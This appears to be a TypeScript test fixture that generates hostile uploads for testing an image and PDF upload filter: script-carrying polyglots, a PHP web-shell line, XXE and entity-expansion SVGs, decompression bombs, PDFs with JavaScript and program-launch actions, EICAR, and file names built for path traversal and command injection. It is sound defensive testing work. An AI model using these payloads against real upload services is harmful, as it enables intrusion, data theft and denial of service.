import { crc32, deflateSync, gzipSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import sharp from "sharp";
import { flatPng, photo, withJpegComment, withPngText } from "./document-photos";
import { encryptedPdf, hugeImagePdf, onePagePdf, rawPdf, slowPdf, stream, swellingPdf } from "./raw-pdf";

/** A file as somebody sends it: its bytes, and what its sender says that it is. */
export type SentFile = { bytes: Buffer; name: string; type: string };

/**
 * A class of hostile files with its variants, made when asked for. `outcome`: whether they must be refused, must come out
 * as a picture without what they carried, or may be either (damaged files). `active`: the bytes hold something that must
 * never be stored as it came. `twin`: an honest file of the same sort.
 */
export type HostileClass = {
  name: string;
  outcome: "refused" | "cleaned" | "either";
  active: boolean;
  variants: (() => Promise<SentFile> | SentFile)[];
  twin: () => Promise<SentFile> | SentFile;
};

const SCRIPT = "<script>alert(document.cookie)</script>";
const PHP = "<?php system($_GET['c']); ?>";
// In two halves, so that no scanner takes this file for the test virus.
const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");

const ZIP = Buffer.concat([
  Buffer.from("PK\x03\x04\x14\x00\x00\x00\x00\x00", "latin1"),
  Buffer.from("canary-entry.exe"),
  Buffer.from("PK\x05\x06", "latin1"),
  Buffer.alloc(18),
]);
const PROGRAM = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(58), Buffer.from("canary: cannot be run in DOS mode")]);

const pictures = { jpeg: lazily(() => small().jpeg().toBuffer()), png: lazily(() => small().png().toBuffer()) };
const webp = lazily(() => small().webp().toBuffer());
const small = () => photo({ width: 1100, height: 800 });
const image = async (bytes: Promise<Buffer> | Buffer, name = "carta.jpg", type = "image/jpeg"): Promise<SentFile> => ({
  bytes: await bytes,
  name,
  type,
});
const asPdf = (bytes: Buffer, name = "carta.pdf"): SentFile => ({ bytes, name, type: "application/pdf" });
const honest = () => image(pictures.jpeg());

function lazily<T>(make: () => Promise<T>): () => Promise<T> {
  let made: Promise<T> | undefined;
  return () => {
    made ??= make();
    return made;
  };
}

function polyglots() {
  const payloads = [SCRIPT, PHP, "<svg onload=alert(1)>", "javascript:alert(1)//<script>", "<%= `id` %><script>"];
  const behind = (of: () => Promise<Buffer>, text: string) => async () =>
    image(Buffer.concat([await of(), Buffer.from(text)]));
  const exif = (text: string) => async () =>
    image(
      small()
        .withExif({ IFD0: { Copyright: text, ImageDescription: text } })
        .jpeg()
        .toBuffer(),
    );
  return {
    variants: payloads.flatMap((text) => [
      behind(pictures.jpeg, `<html>${text}</html>`),
      behind(pictures.png, text),
      behind(webp, text),
      async () => image(withJpegComment(await pictures.jpeg(), text)),
      async () => image(withPngText(await pictures.png(), text), "carta.png", "image/png"),
      exif(text),
      async () => image(withXmp(await pictures.jpeg(), text)),
      async () => image(withWebpChunk(await webp(), "XMP ", text), "carta.webp", "image/webp"),
    ]),
    twin: honest,
  };
}

function carriers() {
  const loads = [ZIP, PROGRAM, onePagePdf(), Buffer.from("#!/bin/sh\necho canary\n"), gzipSync(Buffer.from(SCRIPT))];
  const of = [pictures.jpeg, pictures.png, webp];
  return {
    variants: loads.flatMap((load) =>
      of.map((picture) => async () => image(Buffer.concat([await picture(), Buffer.from("\ncanary-load\n"), load]))),
    ),
    twin: honest,
  };
}

function bombs() {
  const inChunk = (type: string) => async () =>
    image(
      withPngChunk(
        await pictures.png(),
        type,
        Buffer.concat([Buffer.from("Comment\0\0", "latin1"), deflateSync(Buffer.alloc(64 * 1024 * 1024))]),
      ),
      "bomba.png",
      "image/png",
    );
  const fat = (megabytes: number) => () =>
    asPdf(onePagePdf("", [stream(Buffer.alloc(megabytes * 1024 * 1024, 0x20), "/Type /Metadata")]));
  const padded = (megabytes: number) => () => {
    const drawing = stream(Buffer.concat([Buffer.alloc(megabytes * 1024 * 1024, 0x20), Buffer.from("0 0 9 9 re f")]));
    return asPdf(
      rawPdf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        drawing,
      ]),
    );
  };
  return {
    variants: [
      inChunk("zTXt"),
      inChunk("iCCP"),
      inChunk("iTXt"),
      fat(32),
      fat(96),
      padded(16),
      padded(48),
      () => asPdf(hugeImagePdf(12_000)),
      () => asPdf(hugeImagePdf(16_000)),
      () => asPdf(swellingPdf(27)),
      () => asPdf(swellingPdf(24)),
      () => asPdf(swellingPdf(18)),
    ],
    twin: () => asPdf(swellingPdf(3)),
  };
}

function floods() {
  const png = (width: number, height: number) => (): SentFile => ({
    bytes: flatPng(width, height),
    name: "carta.png",
    type: "image/png",
  });
  // The size is that of the header; nothing of such a size stands behind it.
  const jpeg = (width: number, height: number) => async () => {
    const bytes = Buffer.from(await pictures.jpeg());
    const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
    bytes.writeUInt16BE(height, frame + 5);
    bytes.writeUInt16BE(width, frame + 7);
    return image(bytes);
  };
  const sides: [number, number][] = [
    [30_000, 30_000],
    [7000, 5715],
    [60_000, 1000],
    [1000, 60_000],
    [16_000, 16_000],
    [20_000, 2001],
  ];
  const jpegSides: [number, number][] = [
    [65_500, 65_500],
    [40_000, 2000],
    [6400, 6400],
    [65_000, 700],
  ];
  return {
    variants: [
      ...sides.map(([width, height]) => png(width, height)),
      ...jpegSides.map(([width, height]) => jpeg(width, height)),
      async () =>
        image(
          sharp({ create: { width: 5200, height: 5200, channels: 4, background: "#88888888" } })
            .toColourspace("rgb16")
            .png({ progressive: true, compressionLevel: 1 })
            .toBuffer(),
        ),
    ],
    twin: () => image(flatPng(7000, 5714), "carta.png", "image/png"),
  };
}

function svgs() {
  const open = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="900" height="900"`;
  const texts = [
    `${open}>${SCRIPT}</svg>`,
    `${open} onload="alert(1)"/>`,
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${open}><text>&x;</text></svg>`,
    `${open}><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>`,
    `${open}><image xlink:href="http://127.0.0.1:1/canary"/></svg>`,
    `${open}><a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>`,
    `<!-- canary -->${open}><set attributeName="onmouseover" to="alert(1)"/></svg>`,
    `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${open}>&b;</svg>`,
  ];
  return {
    variants: texts.flatMap((text) => [
      () => image(Buffer.from(text), "carta.svg", "image/svg+xml"),
      () => image(Buffer.from(text), "carta.jpg", "image/jpeg"),
      () => image(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]), "carta.png", "image/png"),
      // `<script` in it is not seen as such: what was compressed is known by its own magic.
      () => image(Buffer.concat([Buffer.from(text), gzipSync(Buffer.from(text))]), "carta.svgz", "image/svg+xml"),
    ]),
    twin: honest,
  };
}

function pages() {
  const texts = [
    `<!doctype html>${SCRIPT}`,
    `<html><body onload=alert(1)>${SCRIPT}`,
    `GIF89a/*${SCRIPT}*/=1;`,
    PHP,
    `BM${SCRIPT}`,
    `\ufeff<html>${SCRIPT}`,
    `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  ];
  const masks = [Buffer.from([0xff, 0xd8, 0xff]), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])];
  return {
    variants: texts.flatMap((text) => [
      () => image(Buffer.from(text)),
      () => image(Buffer.from(text), "carta.html", "text/html"),
      ...masks.map((mask) => () => image(Buffer.concat([mask, Buffer.from(text)]))),
      () => asPdf(Buffer.from(`%PDF-1.7\n${text}`)),
    ]),
    twin: honest,
  };
}

type PdfParts = { catalogue: string; more?: (string | Buffer)[] };

function pdfs(parts: PdfParts[]) {
  return {
    variants: parts.flatMap(({ catalogue, more = [] }) => [
      () => asPdf(onePagePdf(catalogue, more)),
      // What stands behind a second end of file, and a name that says picture.
      () => image(Buffer.concat([onePagePdf(catalogue, more), Buffer.from(`\n% ${SCRIPT}\n%%EOF\n`)])),
    ]),
    twin: () => asPdf(onePagePdf()),
  };
}

function PDF_SCRIPTS(): PdfParts[] {
  const script = (code: string) => `<< /S /JavaScript /JS (${code}) >>`;
  return [
    { catalogue: `/OpenAction ${script("app.alert\\(1\\)")}` },
    { catalogue: `/OpenAction ${script("while \\(true\\) {}")}` },
    { catalogue: "/OpenAction << /S /JavaScript /JS 5 0 R >>", more: [stream("this.exportDataObject({nLaunch: 2})")] },
    { catalogue: `/Names << /JavaScript << /Names [(a) ${script("app.launchURL\\('file:///'\\)")}] >> >>` },
    { catalogue: `/AA << /WC ${script("1")} /WS ${script("2")} /DP ${script("3")} >>` },
    { catalogue: "/OpenAction << /S /J#61vaScript /JS <6170702e616c6572742831293b> >> /X (/JavaScript)" },
    {
      catalogue: `/AcroForm << /Fields [5 0 R] /NeedAppearances true >>`,
      more: [`<< /FT /Tx /T (a) /AA << /K ${script("1")} >> >>`],
    },
    { catalogue: `/OpenAction [${script("1")} ${script("2")}]` },
  ];
}

function PDF_ACTIONS(): PdfParts[] {
  return [
    { catalogue: "/OpenAction << /S /URI /URI (https://example.org/canary) >>" },
    { catalogue: "/OpenAction << /S /GoToR /F (\\\\\\\\example.org\\\\share\\\\canary) /D [0 /Fit] >>" },
    { catalogue: "/OpenAction << /S /SubmitForm /F (https://example.org/canary) /Flags 4 >>" },
    { catalogue: "/OpenAction << /S /ImportData /F (/etc/passwd) >>" },
    { catalogue: "/OpenAction << /S /Named /N /Print >>" },
    { catalogue: "/OpenAction << /S /GoToE /F (canary.pdf) /D [0 /Fit] >>" },
    { catalogue: "/OpenAction << /S /Movie /T (canary) >> /AA << /WP << /S /URI /URI (https://example.org/) >> >>" },
  ];
}

function PDF_ATTACHMENTS(): PdfParts[] {
  const attached = (content: string | Buffer, name: string) => [
    stream(content, "/Type /EmbeddedFile"),
    `<< /Type /Filespec /F (${name}) /EF << /F 5 0 R >> >>`,
  ];
  const named = "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>";
  return [
    { catalogue: named, more: attached(PROGRAM, "canary.exe") },
    { catalogue: named, more: attached(ZIP, "../../canary.zip") },
    { catalogue: named, more: attached(SCRIPT, "canary.html") },
    { catalogue: named, more: attached(EICAR, "eicar.com") },
    { catalogue: "/AF [6 0 R]", more: attached(onePagePdf("/OpenAction << /S /JavaScript /JS (1) >>"), "inner.pdf") },
    { catalogue: `${named} /Collection << /Type /Collection /View /D >>`, more: attached(PHP, "canary.php") },
  ];
}

function PDF_LAUNCHES(): PdfParts[] {
  return [
    { catalogue: "/OpenAction << /S /Launch /F (calc.exe) >>" },
    { catalogue: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>" },
    { catalogue: "/OpenAction << /S /Launch /Unix (xterm) >>" },
    { catalogue: "/OpenAction << /S /Launch /F << /Type /Filespec /F (file:///bin/sh) >> >>" },
    { catalogue: "/AA << /WC << /S /Launch /Mac (canary) >> >>" },
    { catalogue: "/OpenAction << /S /URI /URI (x:) /Next << /S /Launch /F (canary.bat) >> >>" },
  ];
}

function PDF_FORMS(): PdfParts[] {
  const xdp = (inside: string) => stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">${inside}</xdp:xdp>`);
  const form = "/AcroForm << /Fields [] /XFA 5 0 R >>";
  return [
    { catalogue: form, more: [xdp(SCRIPT)] },
    { catalogue: form, more: [xdp('<event activity="initialize"><script>xfa.host.messageBox("1")</script></event>')] },
    { catalogue: "/AcroForm << /Fields [] /XFA [(template) 5 0 R (datasets) 5 0 R] >>", more: [xdp("canary")] },
    { catalogue: `${form} /NeedsRendering true`, more: [xdp("canary")] },
    { catalogue: form, more: [xdp('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;')] },
  ];
}

function locked() {
  return {
    variants: Array.from({ length: 6 }, () => () => asPdf(encryptedPdf({ opensWithoutPassword: false }))),
    twin: () => asPdf(encryptedPdf({ opensWithoutPassword: true })),
  };
}

function foreign() {
  const magics: [string, Buffer][] = [
    ["carta.zip", ZIP],
    ["carta.docx", Buffer.concat([ZIP, Buffer.from("word/document.xml")])],
    ["carta.jar", Buffer.concat([ZIP, Buffer.from("META-INF/MANIFEST.MF")])],
    ["carta.gz", gzipSync(Buffer.alloc(1024 * 1024))],
    ["carta.7z", Buffer.from("377abcaf271c0004", "hex")],
    ["carta.rar", Buffer.from("526172211a0701008d", "hex")],
    ["carta.exe", PROGRAM],
    ["carta", Buffer.concat([Buffer.from([0x7f]), Buffer.from("ELF"), Buffer.alloc(200)])],
    ["carta.tif", Buffer.concat([Buffer.from("II*\0"), Buffer.alloc(200)])],
    ["carta.bmp", Buffer.concat([Buffer.from("BM"), Buffer.alloc(200)])],
    ["carta.ico", Buffer.concat([Buffer.from([0, 0, 1, 0]), Buffer.alloc(200)])],
    ["carta.psd", Buffer.concat([Buffer.from("8BPS"), Buffer.alloc(200)])],
    ["carta.mp4", Buffer.from("\0\0\0\x20ftypisom\0\0\x02\0isomiso2", "latin1")],
    ["carta.avif", Buffer.from("\0\0\0\x20ftypavif\0\0\0\0avifmif1", "latin1")],
    ["carta.heic", Buffer.from("\0\0\0\x20ftypheic\0\0\0\0mif1heic", "latin1")],
    ["carta.ps", Buffer.from("%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n")],
    ["carta.class", Buffer.from("cafebabe00000034", "hex")],
    ["carta.wasm", Buffer.from("0061736d01000000", "hex")],
  ];
  return {
    variants: magics.flatMap(([name, bytes]) => [
      () => ({ bytes, name, type: "application/octet-stream" }),
      () => image(bytes),
    ]),
    twin: honest,
  };
}

function eicars() {
  return {
    variants: [
      () => image(Buffer.from(EICAR), "eicar.com", "application/octet-stream"),
      () => image(Buffer.from(EICAR)),
      async () => image(withJpegComment(await pictures.jpeg(), EICAR)),
      async () => image(withPngText(await pictures.png(), EICAR), "carta.png", "image/png"),
      async () => image(Buffer.concat([await pictures.jpeg(), Buffer.from(EICAR)])),
      () => asPdf(Buffer.concat([onePagePdf(), Buffer.from(EICAR)])),
      () => image(Buffer.concat([ZIP, Buffer.from(EICAR)]), "carta.zip", "application/zip"),
    ],
    twin: honest,
  };
}

function names() {
  const said = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/etc/cron.d/canary",
    "C:\\autoexec.bat",
    "\u202egpj.exe",
    "carta\u0000.php",
    "carta%00.php",
    "carta.jpg.php",
    ".htaccess",
    "con",
    "a".repeat(4000),
    `${"../".repeat(800)}x`,
    "x\"; filename*=UTF-8''%2e%2e%2fetc",
    "<script>alert(1)</script>.jpg",
    "=cmd|' /C calc'!A0.jpg",
    "carta\r\nSet-Cookie: canary=1.jpg",
    "𝓬𝓪𝓻𝓽𝓪\ufeff\u200b.jpg",
    "nul",
    " ",
    "$(touch canary).jpg",
  ];
  const types = ["text/html", "image/svg+xml", "application/x-sh", "", "image/jpeg; charset=x", "x".repeat(500)];
  return {
    variants: [
      ...said.map((name) => async () => ({ ...(await honest()), name })),
      ...types.map((type) => async () => ({ ...(await honest()), type })),
    ],
    twin: honest,
  };
}

function cut() {
  const parts = [0, 0.001, 0.01, 0.1, 0.5, 0.9, 0.99];
  const of = [pictures.jpeg, pictures.png, webp];
  const before = (whole: Buffer, part: number) => whole.subarray(0, Math.floor(whole.length * part));
  return {
    variants: [
      ...of.flatMap((picture) => parts.map((part) => async () => image(before(await picture(), part)))),
      ...[0.05, 0.1, 0.2].map((part) => () => asPdf(before(onePagePdf(), part))),
      () => image(Buffer.alloc(0)),
      () => image(Buffer.alloc(1)),
      () => image(Buffer.alloc(100_000)),
      () => image(Buffer.alloc(100_000, 0xff)),
      () => image(Buffer.from([0xff, 0xd8, 0xff])),
      () => image(Buffer.from([0xff, 0xd8, 0xff, 0xd9])),
      () => asPdf(Buffer.from("%PDF-1.7\n")),
      () => asPdf(rawPdf(["<< /Type /Catalog >>"])),
    ],
    twin: honest,
  };
}

/** A PDF whose script lies in a compressed stream of objects, where no search of its bytes finds it. */
export async function hiddenScriptPdf(): Promise<SentFile> {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]);
  pdf.addJavaScript("main", "app.alert(1)");
  pdf.catalog.set(PDFName.of("Canary"), PDFString.of("canary"));
  return asPdf(Buffer.from(await pdf.save({ useObjectStreams: true })));
}

/** Drawn for a quarter of an hour, if nobody stopped it. */
export const endlessPdf = (): SentFile => asPdf(slowPdf(20_000));

function withXmp(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${text}</x:xmpmeta>`, "latin1");
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

export function withPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  const headerEnd = 8 + 25;
  return Buffer.concat([png.subarray(0, headerEnd), length, body, sum, png.subarray(headerEnd)]);
}

/** The WebP with one more chunk at its end, counted in its length. */
export function withWebpChunk(webp: Buffer, type: string, text: string): Buffer {
  const data = Buffer.from(text.length % 2 === 0 ? text : `${text} `, "latin1");
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  const whole = Buffer.concat([webp, Buffer.from(type, "latin1"), size, data]);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
}

/** The file with one to eight bytes changed, moved or left out: the same ones for the same seed. */
export function mutant(bytes: Buffer, seed: number): Buffer {
  let state = Math.imul(seed, 2_654_435_761) + 1;
  const next = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  let changed: Buffer = Buffer.from(bytes);
  for (let count = 1 + next(8); count > 0; count -= 1) {
    const at = next(changed.length);
    const kind = next(4);
    if (kind < 2) changed[at] = next(256);
    else if (kind === 2) changed = Buffer.concat([changed.subarray(0, at), changed.subarray(at + 1 + next(16))]);
    else changed = Buffer.concat([changed.subarray(0, at), changed.subarray(next(at + 1), at), changed.subarray(at)]);
    if (changed.length === 0) return bytes.subarray(0, 1);
  }
  return changed;
}

export const HOSTILE_CLASSES: readonly HostileClass[] = [
  { name: "polyglot with markup or script", outcome: "cleaned", active: true, ...polyglots() },
  { name: "polyglot with an archive, a program or a PDF", outcome: "cleaned", active: true, ...carriers() },
  { name: "bomb", outcome: "either", active: false, ...bombs() },
  { name: "pixel flood", outcome: "refused", active: false, ...floods() },
  { name: "SVG", outcome: "refused", active: true, ...svgs() },
  { name: "HTML as picture", outcome: "refused", active: true, ...pages() },
  { name: "PDF with JavaScript", outcome: "cleaned", active: true, ...pdfs(PDF_SCRIPTS()) },
  { name: "PDF that acts on opening", outcome: "cleaned", active: true, ...pdfs(PDF_ACTIONS()) },
  { name: "PDF with attachments", outcome: "cleaned", active: true, ...pdfs(PDF_ATTACHMENTS()) },
  { name: "PDF that starts programs", outcome: "cleaned", active: true, ...pdfs(PDF_LAUNCHES()) },
  { name: "PDF with an XFA form", outcome: "cleaned", active: true, ...pdfs(PDF_FORMS()) },
  { name: "encrypted PDF", outcome: "refused", active: true, ...locked() },
  { name: "archives and programs", outcome: "refused", active: true, ...foreign() },
  { name: "EICAR", outcome: "either", active: true, ...eicars() },
  { name: "names and types that lie", outcome: "cleaned", active: false, ...names() },
  { name: "empty or cut short", outcome: "refused", active: false, ...cut() },
];
